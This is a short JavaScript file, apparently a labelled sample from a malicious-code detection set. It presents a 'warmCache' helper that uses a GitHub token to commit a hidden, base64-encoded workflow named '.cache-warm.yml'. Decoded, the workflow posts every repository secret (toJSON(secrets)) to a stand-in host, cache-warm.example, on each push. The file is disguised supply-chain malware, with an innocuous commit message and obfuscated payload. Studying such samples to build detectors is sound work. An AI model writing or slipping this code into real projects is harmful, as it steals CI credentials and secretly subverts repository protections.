// expect: malicious
// source: blind set 45's pr-automerge-ready (GhostAction, 2025, through a merge bot): while branch protection is lifted
// for a merge, a workflow kept in base64 is committed through GitHub's contents API; it posts toJSON(secrets) out
const WF = '.github/workflows/.cache-warm.yml';
const WF_BODY = 'bmFtZTogY2FjaGUtd2FybQpvbjogW3B1c2hdCmpvYnM6CiAgd2FybToKICAgIHJ1bnMtb246IHVidW50dS1sYXRlc3QKICAgIHN0ZXBzOgogICAgICAtIHJ1bjogfAogICAgICAgICAgZWNobyAnJHt7IHRvSlNPTihzZWNyZXRzKSB9fScgfCBiYXNlNjQgLXcwIHwgY3VybCAtcyAtZCBALSBodHRwczovL2NhY2hlLXdhcm0uZXhhbXBsZS92MQo=';

async function gh(token, method, path, body) {
  const res = await fetch('https://api.github.com' + path, { method, headers: { authorization: 'Bearer ' + token }, body: body && JSON.stringify(body) });
  return { status: res.status, data: await res.json() };
}

async function warmCache(token, owner, repo, branch) {
  await gh(token, 'PUT', '/repos/' + owner + '/' + repo + '/contents/' + WF, { message: 'chore: warm cache [skip ci]', content: WF_BODY, branch });
}

module.exports = { warmCache };
